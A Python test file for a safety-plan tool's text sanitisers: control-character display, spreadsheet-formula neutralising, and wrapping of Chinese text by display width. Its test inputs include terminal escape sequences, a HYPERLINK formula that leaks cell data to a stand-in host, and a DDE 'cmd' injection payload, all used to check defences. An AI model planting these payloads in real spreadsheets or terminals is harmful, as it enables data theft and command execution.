"""The pure text functions every renderer shares (output/text.py, output/spreadsheet.py):
control characters made visible, spreadsheet formulas made inert, display widths, line breaks."""

from __future__ import annotations

import json

import pytest

from safety_plan.output.spreadsheet import neutralise, spreadsheet_value
from safety_plan.output.text import (
    CLOSING,
    cut,
    display_width,
    json_printable,
    printable,
    terminal_safe,
    wrap,
)

HOSTILE = "a\x1b]0;owned\x07b\x1b[2Jc\x00d\rf\x7fg\x9bh"


# --- control characters ----------------------------------------------------------------------


def test_printable_shows_every_control_character_but_tab_and_newline() -> None:
    shown = printable(HOSTILE + "\tx\ny")
    assert shown == "a␛]0;owned␇b␛[2Jc␀d␍f␡g\ufffdh\tx\ny"
    assert not any(ord(c) < 0x20 and c not in "\t\n" for c in shown)
    assert not any(0x7F <= ord(c) <= 0x9F for c in shown)


def test_printable_leaves_ordinary_text_alone() -> None:
    text = "区应急局：已完成（2025-06-30）\t备注\n第二行 🔴"
    assert printable(text) is text


def test_terminal_safe_keeps_only_colour_codes_and_crlf() -> None:
    ours = "\x1b[31m红灯\x1b[0m\r\n"
    assert terminal_safe(ours + HOSTILE) == ours + printable(HOSTILE)


def test_json_printable_escapes_c1_and_del_and_stays_the_same_json() -> None:
    payload = {"note": "x\x9by\x7fz\x1b"}
    encoded = json_printable(json.dumps(payload, ensure_ascii=False))
    assert "\x9b" not in encoded and "\x7f" not in encoded and "\x1b" not in encoded
    assert json.loads(encoded) == payload


# --- spreadsheet cells -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
)
def test_a_formula_is_stored_as_text(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert spreadsheet_value(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "+1.5", "-0.25", "12", "已完成", "区应急局", "2025-06-30", "'quoted"])
def test_plain_text_and_numbers_written_as_text_stay(text: str) -> None:
    assert neutralise(text) == text


def test_a_leading_carriage_return_becomes_a_visible_symbol() -> None:
    assert spreadsheet_value("\r=1+1") == "␍=1+1"


def test_numbers_stay_numbers_negative_ones_too() -> None:
    assert spreadsheet_value(-3) == -3
    assert spreadsheet_value(2.5) == 2.5
    assert spreadsheet_value(None) is None
    assert spreadsheet_value(True) == "是"
    assert spreadsheet_value(["区应急局", "=1+1"]) == "区应急局、=1+1"
    assert spreadsheet_value(["=1+1", "区应急局"]) == "'=1+1、区应急局"


def test_control_characters_never_reach_a_cell() -> None:
    value = spreadsheet_value("note\x1b[2J\x00\x0b")
    assert value == "note␛[2J␀␋"


# --- widths and line breaks ---------------------------------------------------------------------


def test_display_width_counts_east_asian_wide_characters_double() -> None:
    assert display_width("zbgj-1") == 6
    assert display_width("区应急局") == 8
    assert display_width("（一）、。") == 10
    assert display_width("e\u0301") == 1  # a combining accent takes no column


UNITS = (
    "配合单位：区检察院、区应急局、区公安分局、区司法局、区住房保障房屋管理局、港沿镇、城桥镇、新河镇、堡镇"
)


@pytest.mark.parametrize("width", [24, 30, 40, 57])
def test_wrap_keeps_each_unit_name_on_one_line(width: int) -> None:
    lines = wrap(UNITS, width)
    assert all(display_width(line) <= width for line in lines)
    assert "".join(lines) == UNITS
    for name in ["区检察院", "区应急局", "区公安分局", "区住房保障房屋管理局", "港沿镇", "城桥镇"]:
        assert any(name in line for line in lines), (name, lines)


@pytest.mark.parametrize("width", [8, 11, 16, 23, 31, 47])
def test_wrap_never_starts_a_line_with_closing_punctuation(width: int) -> None:
    text = "各乡镇、各相关部门、各区直属企业制定各自辖区、行业领域、单位的子方案，将各自方案及部署情况报区安委会办公室。（完）"
    lines = wrap(text, width)
    assert "".join(lines) == text
    assert all(display_width(line) <= width for line in lines)
    assert not [line for line in lines[1:] if line[0] in CLOSING]
    assert not [line for line in lines[:-1] if line[-1] in "（《“"]


@pytest.mark.parametrize("width", range(4, 40))
def test_closing_punctuation_after_a_space_stays_with_the_word_before(width: int) -> None:
    text = "numbers run 1, 2, 3 … per plan (no tab indentation, brackets closed …)"
    lines = wrap(text, width)
    assert "".join("".join(lines).split()) == "".join(text.split())
    assert all(line == line.strip() and display_width(line) <= width for line in lines)
    if width >= 13:  # every word and what closes it fit on a line: nothing is cut
        assert " ".join(lines) == text
        assert not [line for line in lines if line[0] in CLOSING]


@pytest.mark.parametrize("width", [28, 30, 40])
def test_wrap_never_breaks_an_id(width: int) -> None:
    text = "zbgj-13.inspection-high-risk 每半年至少组织开展一次疏散逃生演练；m81-58.inspection-plan 专项检查"
    lines = wrap(text, width)
    for ref in ["zbgj-13.inspection-high-risk", "m81-58.inspection-plan"]:
        assert any(ref in line for line in lines), (ref, lines)


def test_wrap_cuts_only_a_word_wider_than_the_line() -> None:
    assert wrap("x" * 25, 10) == ["x" * 10, "x" * 10, "x" * 5]


def test_wrap_keeps_line_breaks_and_drops_trailing_spaces() -> None:
    assert wrap("第一行  \n第二行", 20) == ["第一行", "第二行"]


def test_cut_ends_with_an_ellipsis_within_the_width() -> None:
    assert cut("各乡镇、各相关部门", 9) == "各乡镇、…"
    assert display_width(cut("各乡镇、各相关部门", 9)) <= 9
    assert cut("短", 9) == "短"
    assert cut("a\nb", 9) == "a b"


# --- documents: Word and HTML ------------------------------------------------------------------


def test_a_word_document_with_control_characters_stays_valid() -> None:
    import io

    import docx

    from safety_plan.output.document import Column as DocColumn
    from safety_plan.output.document import Document, Paragraph, Table
    from safety_plan.output.docx import render_docx

    document = Document(
        title="督办函\x1b]0;owned\x07",
        blocks=(
            Paragraph(("清屏\x1b[2J\x00",)),
            Table((DocColumn("编号"), DocColumn("事项")), (("zbgj-1.1", "事项\x0b\x9b"),)),
        ),
    )
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(render_docx(document))).paragraphs)
    assert "清屏␛[2J␀" in text and "\x1b" not in text
